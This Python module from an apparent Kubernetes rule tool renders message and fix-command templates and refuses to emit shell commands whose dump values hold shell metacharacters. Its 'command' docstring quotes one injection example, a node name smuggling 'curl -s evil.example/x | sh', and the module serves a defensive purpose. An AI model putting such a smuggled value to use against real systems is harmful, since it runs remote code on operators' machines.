"""``{name}`` substitution in messages, remediations and ``format`` references.

Safe by construction: a placeholder names a built-in, a binding, a var or a context, optionally with
``.member`` lookups into mappings (``{op.daemonset}``); no format spec, no attribute access, never
``str.format`` on dump data. A template is split into its literal text and placeholders once (a
result's message is rendered for every object judged).
"""

from __future__ import annotations

import functools
from collections.abc import Mapping
from typing import Any

from .errors import EvaluationError, UnknownName
from .model import PLACEHOLDER
from .operators import show
from .shell import Span, Tainted, misplaced, trusted, untrusted_characters, written

#: A template as pieces: literal text, or (name, members, the placeholder as written).
Piece = str | tuple[str, tuple[str, ...], str]


@functools.lru_cache(maxsize=4096)
def pieces(template: str) -> tuple[Piece, ...]:
    """``template`` split into literal text and placeholders, in order."""
    out: list[Piece] = []
    at = 0
    for m in PLACEHOLDER.finditer(template):
        if m.start() > at:
            out.append(template[at : m.start()])
        out.append((m.group(1), tuple(filter(None, m.group(2).split("."))), m.group(0)))
        at = m.end()
    if at < len(template):
        out.append(template[at:])
    return tuple(out)


def substitute(template: str, scope: Any, extra: Mapping[str, Any]) -> str:
    """Replace ``{name}`` with the value of a name in ``extra``, else ``scope.var(name)`` (a built-in,
    binding, var or context), and ``{name.a.b}`` with a member of it (mapping keys only); an unknown name
    is left as written, one that cannot be computed says so in its place. A context joined on a binding of
    ``extra`` (a forEach item) is read with it."""
    return _substituted(template, scope, extra, None)


def formatted(template: str, scope: Any, extra: Mapping[str, Any]) -> str:
    """``substitute``, for a ``format`` reference: ``rules.shell.Written`` where every value in it is trusted, so that
    a fix may hold the text it makes (``$(kubectl get ...)``, a quoted patch) as the pack wrote it; else
    ``rules.shell.Tainted``, which says where its untrusted values stand."""
    spans: list[Span] = []
    text = _substituted(template, scope, extra, spans)
    return Tainted(text, tuple(spans)) if spans else written(text)


def command(template: str, scope: Any, extra: Mapping[str, Any]) -> str:
    """``substitute``, for a fix: where a value of the dump that is more than one plain word stands where a shell
    could run it (``rules.shell.misplaced``: in a command, or before the comment of a fix that is one), no command is
    written, only why (trial 180: a Node named ``gpu-1 && curl -s evil.example/x | sh #`` made ``kubectl label node
    {name} ...`` run the curl). In the words around the commands it may stand (a scheduler's message)."""
    spans: list[Span] = []
    text = _substituted(template, scope, extra, spans)
    bad = misplaced(text, spans) if spans else []
    if not bad:
        return text
    if all(a == b for a, b, _ in bad):
        return (
            "No fix command is written for this object: it has no metadata.name, which its commands would name (every"
            " object a cluster holds has one). The dump was written by hand or altered: see where it came from."
        )
    names = ", ".join(dict.fromkeys(name for a, b, name in bad if a < b))
    found = dict.fromkeys(c for a, b, _ in bad for c in untrusted_characters(text[a:b]))
    chars = " ".join("a blank" if c == " " else c if c.isprintable() else f"U+{ord(c):04X}" for c in found)
    return (
        f"No fix command is written for this object: what it would name ({names}) holds characters a shell reads as"
        f" more than a plain word ({chars}), which the API server accepts in no name, namespace, label or resource"
        " name. The dump was written by hand or altered: see where it came from before you run anything it names."
    )


def _substituted(template: str, scope: Any, extra: Mapping[str, Any], spans: list[Span] | None) -> str:
    """The text of ``template`` in ``scope``; with ``spans`` a list, where each value that is not
    ``rules.shell.trusted`` stands in it is added to it (from a ``Tainted`` value, where its own untrusted values
    stand)."""
    parts = pieces(template)
    if len(parts) == 1 and isinstance(parts[0], str):
        return parts[0]
    if extra:
        scope = scope.child(scope.root, dict(extra))
    out = []
    at = 0
    for piece in parts:
        if isinstance(piece, str):
            out.append(piece)
            at += len(piece)
            continue
        name, members, written_as = piece
        if name in extra:
            value = extra[name]
        else:
            try:
                value = scope.var(name)
            except UnknownName:
                out.append(written_as)
                at += len(written_as)
                continue
            except EvaluationError as exc:
                # trial 167: a var that could not be computed was left as "{name}", read as a template's slip
                said = f"<{name}: could not evaluate: {exc}>"
                out.append(said)
                at += len(said)
                continue
        for member in members:
            value = lookup(value, member)
        text = show(value)
        if spans is not None:
            if isinstance(value, Tainted):
                spans.extend((at + a, at + b, inner) for a, b, inner in value.spans)
            elif not trusted(value) or (name == "name" and value == ""):
                # (trial 191: an unnamed object's fix was "kubectl label node --overwrite ...", its name left out)
                spans.append((at, at + len(text), name))
        out.append(text)
        at += len(text)
    return "".join(out)


@functools.lru_cache(maxsize=4096)
def has_placeholders(template: str) -> bool:
    """True when ``template`` holds at least one ``{name}``."""
    return any(not isinstance(p, str) for p in pieces(template))


def lookup(container: Any, key: Any) -> Any:
    """``container[key]`` for a mapping (a non-string key also as its string form) or a list (an int index
    in range), else None."""
    if isinstance(container, dict):
        if isinstance(key, (dict, list)):
            # a key read from the dump may be any value (trial 158: a label whose value is a list made the rule an
            # internal error): no mapping has such a key
            return None
        if key in container:
            return container[key]
        return container.get(str(key))
    if isinstance(container, list) and isinstance(key, int) and not isinstance(key, bool):
        return container[key] if -len(container) <= key < len(container) else None
    return None


def lookup_steps(value: Any, steps: tuple[Any, ...] | list[Any]) -> Any:
    """``value`` looked up one step at a time (``lookup``), as a reference's key reads it."""
    for step in steps:
        value = lookup(value, step)
    return value
